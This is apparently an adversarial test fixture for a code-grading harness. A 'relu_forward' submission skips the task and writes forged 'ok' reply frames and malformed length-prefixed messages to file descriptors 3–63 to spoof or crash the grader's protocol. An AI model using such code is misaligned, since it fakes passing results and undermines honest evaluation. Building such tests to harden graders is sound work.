# /// attack
# tries = "writes replies of its own to every descriptor that it holds"
# question = "relu_forward"
# variants = [
#     "frame({'id': n, 'ok': True}) for n in range(50)",
#     "frame([{'id': 3, 'ok': None}]) for _ in range(3)",
#     "struct.pack('>Q', 2**63) for _ in range(2)",
#     "struct.pack('>Q', 100) + bytes(10) for _ in range(2)",
#     "struct.pack('>Q', 3) + b'\\xc7\\xff\\xff' for _ in range(2)",
# ]
# modes = ["batch"]
# ///
# %% question="relu_forward"
def relu_forward(x):
    import os, struct, sys

    encode = sys.modules["grader.protocol.codec"].encode

    def frame(value):
        payload = encode(value)
        return struct.pack(">Q", len(payload)) + payload

    for data in [VARIANT]:
        for number in range(3, 64):
            try:
                os.write(number, data)
            except OSError:
                continue
    return x
